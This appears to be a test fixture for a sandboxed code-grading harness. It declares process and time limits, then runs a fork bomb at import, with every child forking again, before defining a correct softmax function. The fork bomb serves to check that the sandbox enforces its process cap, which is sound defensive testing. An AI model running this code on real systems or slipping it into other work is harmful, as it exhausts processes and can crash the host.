"""Hostile: a fork bomb at import (every child forks too); the parent reports when fork fails,
then answers correctly.

expect: graded
needs: box
passes: all
output-has: FORK: limited after
limits: max_processes=32 wall_seconds=30
"""
import os
import time

import numpy as np

children = 0
try:
    while True:
        pid = os.fork()
        if pid == 0:
            try:
                while True:
                    os.fork()
            except OSError:
                pass
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as exc:
    print(f"FORK: limited after {children} children: {exc}", flush=True)


def softmax(x, axis=-1):
    m = np.max(x, axis=axis, keepdims=True)
    m = np.where(np.isfinite(m), m, 0).astype(x.dtype)
    with np.errstate(over="ignore"):
        e = np.exp(x - m)
    s = e.sum(axis=axis, keepdims=True)
    return np.divide(e, s, out=np.zeros_like(e), where=s > 0)
